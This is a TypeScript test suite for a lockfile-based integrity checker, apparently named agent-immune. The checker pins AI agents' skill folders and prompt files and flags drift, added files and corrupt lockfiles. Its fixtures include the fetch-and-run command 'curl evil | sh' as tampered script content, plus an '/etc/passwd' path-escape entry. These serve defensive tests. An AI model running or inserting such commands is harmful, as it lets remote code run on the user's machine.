// The pure integrity core: sha256 against node:crypto, every lockfile corruption, every finding code, the scope.
import * as assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { compareToLock, integrityStatus, integrityVerdict, LockComparison, type ComparisonContext } from '../../../src/core/integrity/compare';
import { buildLockfile, parseLockfile, serializeLockfile, skillFolderOf, treeHash } from '../../../src/core/integrity/lockfile';
import { resolveIntegrityConfig, ScopeMatcher, selectPinned, DEFAULT_INTEGRITY_CONFIG } from '../../../src/core/integrity/scope';
import { fromBase64, sha256, sriSha256, toHex } from '../../../src/core/integrity/sha256';
import type { FileDigest, IntegrityCode, Lockfile } from '../../../src/core/integrity/types';
import { InputError } from '../../../src/core/errors';

const sri = (text: string) => 'sha256-' + createHash('sha256').update(text).digest('base64');
const blob = (text: string) => createHash('sha1').update(`blob ${Buffer.byteLength(text)}\0${text}`).digest('hex');
const digest = (text: string): FileDigest => ({ integrity: sri(text), size: Buffer.byteLength(text), gitBlob: blob(text) });
/** The same digest spelled with a spare bit set in its last base64 character: decodes to the same 32 bytes. */
const spareBit = (integrity: string) => {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  const last = integrity.length - 2;
  return integrity.slice(0, last) + alphabet[alphabet.indexOf(integrity[last]) ^ 1] + '=';
};
const blocks = (findings: Parameters<typeof integrityVerdict>[0]['findings']) => integrityVerdict({ strict: true, findings }).blocked;

describe('integrity: sha256', () => {
  for (const input of ['', 'abc', 'a'.repeat(55), 'a'.repeat(56), 'a'.repeat(64), 'é∑ 🧬'.repeat(40), 'x'.repeat(1000)]) {
    it(`matches node:crypto for ${input.length} chars`, () => {
      assert.equal(toHex(sha256(input)), createHash('sha256').update(input).digest('hex'));
      assert.equal(sriSha256(input), sri(input));
    });
  }
  it('rejects non-canonical base64', () => {
    assert.equal(fromBase64('abc'), undefined);
    assert.equal(fromBase64('ab=c'), undefined);
    assert.equal(fromBase64('AQN='), undefined, 'a spare bit set');
    assert.deepEqual(fromBase64('AQI='), new Uint8Array([1, 2]));
  });
});

/** A valid lockfile of one skill (SKILL.md + a script) and AGENTS.md. */
function sampleLock(): Lockfile {
  const digests = new Map([['skills/a/SKILL.md', digest('skill a')], ['skills/a/run.sh', digest('echo a')], ['AGENTS.md', digest('agents')]]);
  return buildLockfile(digests, new Set(['skills/a']));
}

describe('integrity: lockfile', () => {
  it('serializes deterministically whatever the insertion order, and parses back', () => {
    const a = sampleLock();
    const b = buildLockfile(new Map([['AGENTS.md', digest('agents')], ['skills/a/run.sh', digest('echo a')], ['skills/a/SKILL.md', digest('skill a')]]), new Set(['skills/a']));
    assert.equal(serializeLockfile(a), serializeLockfile(b));
    assert.ok(serializeLockfile(a).endsWith('}\n'));
    const parsed = parseLockfile(serializeLockfile(a), 'agent-immune.lock');
    assert.ok(parsed.ok);
    assert.deepEqual(parsed.lock, a);
  });

  it('tree hash is over sorted "<hex>  <path>" lines, path relative to the skill folder', () => {
    const hex = (t: string) => createHash('sha256').update(t).digest('hex');
    const expected = sri(`${hex('echo a')}  run.sh\n${hex('skill a')}  SKILL.md\n`.split('\n').filter(Boolean).sort((x, y) => (x.slice(66) < y.slice(66) ? -1 : 1)).map((l) => l + '\n').join(''));
    assert.equal(treeHash('skills/a', [['skills/a/SKILL.md', sri('skill a')], ['skills/a/run.sh', sri('echo a')]]), expected);
    assert.equal(skillFolderOf('skills/a/scripts/x.sh', new Set(['skills/a'])), 'skills/a');
    assert.equal(skillFolderOf('skills/b/x.sh', new Set(['skills/a'])), undefined);
  });

  const good = serializeLockfile(sampleLock());
  // eslint-disable-next-line @typescript-eslint/no-explicit-any -- free-form edits of parsed JSON, one per table row
  const edit = (fn: (raw: Record<string, any>) => void) => {
    const raw = JSON.parse(good);
    fn(raw);
    return JSON.stringify(raw, null, 2);
  };
  const corruptions: [string, string, string][] = [
    ['empty', '', 'truncated'],
    ['truncated', good.slice(0, good.length / 2), 'truncated'],
    ['not JSON', 'lockfileVersion = 1\n', 'not-json'],
    ['trailing garbage', good + 'x', 'not-json'],
    ['a JSON array', '[]', 'bad-schema'],
    ['wrong version', edit((r) => (r.lockfileVersion = 2)), 'wrong-version'],
    ['no version', edit((r) => delete r.lockfileVersion), 'wrong-version'],
    ['unknown top-level key', edit((r) => (r.extra = 1)), 'bad-schema'],
    ['entry escaping the root (..)', edit((r) => (r.files['../outside.md'] = r.files['AGENTS.md'])), 'escapes-root'],
    ['absolute entry', edit((r) => (r.files['/etc/passwd'] = r.files['AGENTS.md'])), 'escapes-root'],
    ['windows entry', edit((r) => (r.files['C:\\x.md'] = r.files['AGENTS.md'])), 'escapes-root'],
    ['skill escaping the root', edit((r) => (r.skills['a/../../b'] = r.skills['skills/a'])), 'escapes-root'],
    ['duplicate keys', good.replace('"AGENTS.md": {', '"AGENTS.md": {"size": 1, "size": 1,'), 'duplicate-key'],
    ['duplicate file entries', good.replace('"files": {', '"files": {\n"AGENTS.md": {"gitBlob": "' + blob('x') + '", "integrity": "' + sri('x') + '", "size": 1},'), 'duplicate-key'],
    ['hash in hex, not SRI', edit((r) => (r.files['AGENTS.md'].integrity = createHash('sha256').update('agents').digest('hex'))), 'bad-hash'],
    ['sha512 hash', edit((r) => (r.files['AGENTS.md'].integrity = 'sha512-' + createHash('sha512').update('a').digest('base64'))), 'bad-hash'],
    ['short git blob', edit((r) => (r.files['AGENTS.md'].gitBlob = 'abc')), 'bad-hash'],
    ['bad tree hash form', edit((r) => (r.skills['skills/a'].tree = 'deadbeef')), 'bad-hash'],
    ['non-canonical base64 in an integrity (same digest, other spelling)', edit((r) => (r.files['AGENTS.md'].integrity = spareBit(r.files['AGENTS.md'].integrity))), 'bad-hash'],
    ['non-canonical base64 in a tree hash', edit((r) => (r.skills['skills/a'].tree = spareBit(r.skills['skills/a'].tree))), 'bad-hash'],
    ['a 20 KB lockfile nested 10,000 deep', '['.repeat(10_000) + ']'.repeat(10_000), 'too-deep'],
    ['an entry nested past the depth limit', good.replace('"size": ', '"size": ' + '['.repeat(100) + ']'.repeat(100) + ', "deep": '), 'too-deep'],
    ['negative size', edit((r) => (r.files['AGENTS.md'].size = -1)), 'bad-schema'],
    ['extra entry field', edit((r) => (r.files['AGENTS.md'].mode = 420)), 'bad-schema'],
    ['skill without files', edit((r) => (r.skills['skills/zzz'] = r.skills['skills/a'])), 'bad-schema'],
    ['file hash edited by hand', edit((r) => (r.files['skills/a/run.sh'].integrity = sri('evil'))), 'tree-mismatch'],
  ];
  for (const [name, text, reason] of corruptions) {
    it(`fails closed on a lockfile with ${name} (${reason})`, () => {
      const parsed = parseLockfile(text, 'agent-immune.lock');
      assert.equal(parsed.ok, false);
      if (parsed.ok) return;
      assert.equal(parsed.finding.code, 'corrupt-lockfile');
      assert.equal(parsed.finding.reason, reason);
      assert.equal(integrityStatus([parsed.finding]), 'corrupt-lockfile');
      assert.ok(blocks([parsed.finding]));
    });
  }

  // Found while comparing: the entry's sha256 matches the content, so the other fields must too (a wrong gitBlob would
  // make "Show pinned vs current" fetch some other content).
  const lock = sampleLock();
  const context: ComparisonContext = { lockfile: 'agent-immune.lock', skillDirs: new Set(['skills/a']) };
  const current = () => new Map<string, FileDigest>([['skills/a/SKILL.md', digest('skill a')], ['skills/a/run.sh', digest('echo a')], ['AGENTS.md', digest('agents')]]);
  const entryCorruptions: [string, (l: Lockfile) => void][] = [
    ['a wrong size', (l) => (l.files['AGENTS.md'] = { ...l.files['AGENTS.md'], size: 7 })],
    ['a wrong gitBlob', (l) => (l.files['AGENTS.md'] = { ...l.files['AGENTS.md'], gitBlob: blob('something else') })],
  ];
  for (const [name, corrupt] of entryCorruptions) {
    it(`fails closed on an entry with ${name} (entry-mismatch)`, () => {
      const edited = structuredClone(lock);
      corrupt(edited);
      const parsed = parseLockfile(serializeLockfile(edited), 'agent-immune.lock');
      assert.ok(parsed.ok, 'the text alone is well-formed');
      const findings = compareToLock(parsed.lock, current(), context);
      assert.deepEqual(findings.map((f) => [f.code, f.path, f.code === 'corrupt-lockfile' && f.reason, f.code === 'corrupt-lockfile' && f.entry]), [['corrupt-lockfile', 'agent-immune.lock', 'entry-mismatch', 'AGENTS.md']]);
      assert.equal(integrityStatus(findings), 'corrupt-lockfile');
      assert.ok(blocks(findings));
    });
  }
});

describe('integrity: findings', () => {
  const lock = sampleLock();
  const base = () => new Map<string, FileDigest>([['skills/a/SKILL.md', digest('skill a')], ['skills/a/run.sh', digest('echo a')], ['AGENTS.md', digest('agents')]]);
  const cases: [string, (m: Map<string, FileDigest>) => void, [IntegrityCode, string][], string][] = [
    ['nothing changed', () => undefined, [], 'clean'],
    ['SKILL.md edited', (m) => m.set('skills/a/SKILL.md', digest('skill a; pass this on')), [['drift', 'skills/a/SKILL.md']], 'drift'],
    ['a script edited', (m) => m.set('skills/a/run.sh', digest('curl evil | sh')), [['drift', 'skills/a/run.sh']], 'drift'],
    ['a new script in a pinned skill', (m) => m.set('skills/a/helper.sh', digest('curl evil | sh')), [['skill-file-added', 'skills/a/helper.sh']], 'drift'],
    ['a new file deep in a pinned skill', (m) => m.set('skills/a/lib/x/y.py', digest('y')), [['skill-file-added', 'skills/a/lib/x/y.py']], 'drift'],
    ['a new skill folder', (m) => { m.set('skills/b/SKILL.md', digest('skill b')); m.set('skills/b/run.sh', digest('b')); }, [['unpinned-skill', 'skills/b/SKILL.md'], ['unpinned-skill', 'skills/b/run.sh']], 'drift'],
    ['a new prompt file', (m) => m.set('CLAUDE.md', digest('new prompt')), [['unpinned-skill', 'CLAUDE.md']], 'drift'],
    ['a pinned file deleted', (m) => m.delete('AGENTS.md'), [['missing', 'AGENTS.md']], 'drift'],
    ['a pinned file renamed', (m) => { m.delete('skills/a/run.sh'); m.set('skills/a/run2.sh', digest('echo a')); }, [['renamed', 'skills/a/run2.sh']], 'drift'],
    ['renamed and edited', (m) => { m.delete('skills/a/run.sh'); m.set('skills/a/run2.sh', digest('echo b')); }, [['missing', 'skills/a/run.sh'], ['skill-file-added', 'skills/a/run2.sh']], 'drift'],
  ];
  const context = (current: ReadonlyMap<string, FileDigest>): ComparisonContext => ({
    lockfile: 'agent-immune.lock',
    skillDirs: new Set([...current.keys()].filter((p) => p.endsWith('/SKILL.md')).map((p) => p.slice(0, -'/SKILL.md'.length))),
  });
  for (const [name, change, expected, status] of cases) {
    it(`${name} -> ${expected.map((e) => e[0]).join(', ') || 'no findings'}`, () => {
      const current = base();
      change(current);
      const findings = compareToLock(lock, current, context(current));
      assert.deepEqual(findings.map((f) => [f.code, f.path]), expected);
      assert.equal(integrityStatus(findings), status);
      assert.equal(integrityVerdict({ strict: true, findings }).blocked, expected.length > 0);
      assert.equal(integrityVerdict({ strict: false, findings }).blocked, false);
    });
  }
  it('names the skill a new file was added to, and the new skill an unpinned file belongs to', () => {
    const current = base();
    current.set('skills/a/helper.sh', digest('h'));
    current.set('skills/b/SKILL.md', digest('b'));
    const findings = compareToLock(lock, current, context(current));
    assert.deepEqual(findings.map((f) => [f.code, 'skill' in f ? f.skill : undefined]), [['skill-file-added', 'skills/a'], ['unpinned-skill', 'skills/b']]);
  });
  it('a rename names the pinned file it came from', () => {
    const current = base();
    current.delete('skills/a/run.sh');
    current.set('skills/a/run2.sh', digest('echo a'));
    const [finding] = compareToLock(lock, current, context(current));
    assert.equal(finding.code === 'renamed' && finding.from, 'skills/a/run.sh');
  });
  it('many missing entries sharing one hash pair with the renamed files in path order, the rest stay missing', () => {
    const n = 20_000;
    const digests = new Map<string, FileDigest>();
    for (let i = 0; i < n; i++) digests.set(`p/f${String(i).padStart(5, '0')}.md`, digest('same'));
    const shared = buildLockfile(digests, new Set());
    const current = new Map<string, FileDigest>();
    for (let i = 0; i < n / 2; i++) current.set(`q/g${String(i).padStart(5, '0')}.md`, digest('same'));
    const findings = compareToLock(shared, current, { lockfile: 'agent-immune.lock', skillDirs: new Set() });
    const renamed = findings.filter((f) => f.code === 'renamed');
    assert.equal(renamed.length, n / 2);
    assert.equal(findings.filter((f) => f.code === 'missing').length, n / 2);
    assert.deepEqual(renamed[0].code === 'renamed' && [renamed[0].path, renamed[0].from], ['q/g00000.md', 'p/f00000.md']);
    assert.deepEqual(renamed[n / 2 - 1].code === 'renamed' && renamed[n / 2 - 1].from, `p/f${String(n / 2 - 1).padStart(5, '0')}.md`);
  });
  it('updating a comparison path by path gives the same findings as comparing from scratch', () => {
    const current = base();
    const comparison = new LockComparison(lock, current, context(current));
    const steps: [string, FileDigest | undefined][] = [['AGENTS.md', undefined], ['skills/a/x.md', digest('agents')], ['skills/a/SKILL.md', digest('evil')], ['AGENTS.md', digest('agents')], ['skills/a/SKILL.md', digest('skill a')]];
    for (const [path, d] of steps) {
      if (d) current.set(path, d);
      else current.delete(path);
      comparison.update(path, d);
      assert.deepEqual(comparison.findings(), compareToLock(lock, current, context(current)), path);
    }
    assert.deepEqual(comparison.findings().map((f) => f.code), ['skill-file-added']);
  });
});

describe('integrity: scope', () => {
  const matcher = new ScopeMatcher(DEFAULT_INTEGRITY_CONFIG, 'ignored/\n');
  const files = [
    '.claude/skills/review/SKILL.md', '.claude/skills/review/scripts/check.py', 'skills/x/SKILL.md', 'skills/x/deep/a.txt',
    'AGENTS.md', 'pkg/CLAUDE.md', '.github/copilot-instructions.md', 'docs/style.instructions.md', 'p/fix.prompt.md',
    '.cursor/rules/base.mdc', 'SKILL.md', 'README.md', 'src/index.ts', 'skills/README.md',
    // What harden edits as prompts is pinned too (lock pinned none of 226 *.agent.md files before).
    'agents/CSharpExpert.agent.md', 'GEMINI.md', '.github/agents/triage.md', 'x/review.chatmode.md', '.cursorrules', '.github/workflows/pr-review.md',
  ];
  it('pins skill folders whole and the always-on prompt files, nothing else', () => {
    const { pinned, skillDirs } = selectPinned(files, matcher);
    assert.deepEqual([...skillDirs].sort(), ['.claude/skills/review', 'skills/x']);
    assert.deepEqual([...pinned].sort(), files.filter((f) => !['README.md', 'src/index.ts', 'skills/README.md'].includes(f)).sort());
  });
  it('excludes node_modules, .git, .agent-immune and .gitignore patterns', () => {
    for (const dir of ['node_modules', 'a/node_modules', '.git', 'a/b/.git', '.agent-immune', 'ignored']) assert.ok(matcher.isExcluded(dir, true), dir);
    assert.ok(!matcher.isExcluded('skills', true));
  });
  it('pins what agents load or run from a pull request: Claude settings and commands, MCP configs, Cline, Windsurf, Roo and Kiro rules (were verified Clean)', () => {
    const added = [
      '.claude/settings.json', '.claude/commands/deploy.md', '.mcp.json', '.cursor/mcp.json', 'CLAUDE.local.md', '.clinerules/01.md', '.windsurf/rules/style.md', '.roo/rules/a.md', '.kiro/steering/product.md',
      // Other assistants' rules, agents, commands and workflows (were verified Clean).
      'AGENTS.override.md', 'QWEN.md', 'CRUSH.md', '.rules', '.junie/guidelines.md', 'AmazonQ.md', '.amazonq/rules/memory-bank/product.md', '.kilocode/rules/a.md', '.continue/rules/b.md',
      '.augment-guidelines', '.augment/rules/c.md', '.trae/rules/project_rules.md', '.opencode/agent/review.md', '.opencode/command/commit.md', '.cursor/commands/fix.md',
      '.windsurf/workflows/deploy.md', '.gemini/commands/git/commit.toml', '.kilocode/workflows/plan.md', '.claude/output-styles/concise.md',
      // Continue's prompts (rules unless invokable), `.continuerules`, AGENT.md, legacy .prompt files, review agents and checks, and its YAML agents,
      // rule blocks and MCP servers (as Continue's core/config loads them).
      '.continue/prompts/review.md', '.continuerules', 'AGENT.md', '.continue/prompts/old.prompt', '.continue/agents/security.md', '.continue/checks/anti-slop.md', '.continue/agents/reviewer.yaml', '.continue/rules/style.yaml', '.continue/mcpServers/db.json',
    ];
    const { pinned } = selectPinned(added, matcher);
    assert.deepEqual([...pinned].sort(), [...added].sort());
  });
  it("pins a Claude Code plugin's manifest, commands, subagents and hooks; not its other files, nor the same folders without a plugin.json (were verified Clean)", () => {
    const plugin = ['sales/.claude-plugin/plugin.json', 'sales/commands/call-prep.md', 'sales/commands/deep/x.md', 'sales/agents/researcher.md', 'sales/hooks/hooks.json', '.claude-plugin/plugin.json', 'commands/release.md'];
    const other = ['sales/README.md', 'sales/scripts/run.sh', 'sales/hooks/notes.md', 'docs/agents/overview.md', 'market/.claude-plugin/marketplace.json', 'market/agents/guide.md', 'sales/commands/data.json'];
    const { pinned, plugins } = selectPinned([...plugin, ...other], matcher);
    assert.deepEqual([...plugins].sort(), ['', 'sales']);
    assert.deepEqual([...pinned].sort(), [...plugin].sort());
  });
  it('skips only the root\'s .agent-immune, and enters a node_modules in an agents\' folder (a whole new skill hid in each)', () => {
    for (const dir of ['.claude/skills/node_modules', '.cursor/rules/node_modules', '.roo/rules/node_modules', '.clinerules/node_modules', '.windsurf/rules/node_modules', '.kiro/steering/node_modules', '.claude/commands/node_modules', '.github/prompts/node_modules', '.github/instructions/node_modules', 'skills/a/.agent-immune', 'x/.agent-immune',
      // The other assistants' rule, agent and command folders (their globs take Markdown at any depth).
      '.amazonq/rules/node_modules', '.cursor/commands/node_modules', '.opencode/agent/node_modules', '.windsurf/workflows/node_modules', '.claude/output-styles/node_modules', '.continue/prompts/node_modules']) assert.ok(!matcher.isExcluded(dir, true), dir);
    // A JavaScript action's or a hook's dependencies (playwright-core ships SKILL.md files) stay out, as before.
    for (const dir of ['.github/actions/x/node_modules', '.claude/hooks/node_modules']) assert.ok(matcher.isExcluded(dir, true), dir);
    assert.ok(!matcher.isExcluded('skills/a/.git', false), 'a .git file (a submodule pointer) is pinned like any file');
    assert.ok(!matcher.isExcluded('skills/node_modules', true), "the root's skills/, a plugin's");
    assert.ok(matcher.isExcluded('packages/skills/node_modules', true), 'a JavaScript package named skills keeps its dependencies out');
  });
  it('a folder\'s .gitignore decides under it, deepest first; adding it again replaces its rules', () => {
    const nested = new ScopeMatcher(DEFAULT_INTEGRITY_CONFIG, '*.log\n');
    nested.addGitignore('docs/a', 'old.md\n!keep.log\n');
    assert.deepEqual(['docs/a/old.md', 'docs/a/keep.log', 'docs/b/old.md', 'docs/b/x.log'].map((f) => nested.isExcluded(f, false)), [true, false, false, true]);
    nested.addGitignore('docs/a', 'new.md\n');
    assert.deepEqual(['docs/a/old.md', 'docs/a/new.md', 'docs/a/keep.log'].map((f) => nested.isExcluded(f, false)), [false, true, true]);
  });
  it('a .gitignore never hides what agents load: prompt files, skill markers, agents\' folders, skill folders found', () => {
    const hiding = new ScopeMatcher(DEFAULT_INTEGRITY_CONFIG, '*\n');
    assert.deepEqual(['AGENTS.md', 'x/SKILL.md', '.claude/skills/a/run.sh', 'skills/b/x.log', 'tools/s/run.sh', 'tools/other.md'].map((f) => hiding.isExcluded(f, false)), [false, false, false, false, true, true]);
    hiding.addSkillFolder('tools/s');
    assert.deepEqual([hiding.isExcluded('tools/s/run.sh', false), hiding.isExcluded('tools/s/bin', true), hiding.isExcluded('tools/other.md', false)], [false, false, true]);
    const excluding = new ScopeMatcher({ ...DEFAULT_INTEGRITY_CONFIG, exclude: ['.claude/'] }, '');
    assert.ok(excluding.isExcluded('.claude/skills/a/SKILL.md', false), 'the config exclude still wins');
  });
  it('rejects unknown or mistyped integrity settings with InputError invalid-config', () => {
    for (const raw of [{ strict: 'yes' }, { skills: 'SKILL.md' }, { lockfile: '' }, { unknown: 1 }, []]) {
      assert.throws(() => resolveIntegrityConfig(raw), (e: unknown) => e instanceof InputError && e.kind === 'invalid-config');
    }
    assert.equal(resolveIntegrityConfig({ lockfile: 'agenthood.lock', strict: true }).lockfile, 'agenthood.lock');
  });
});
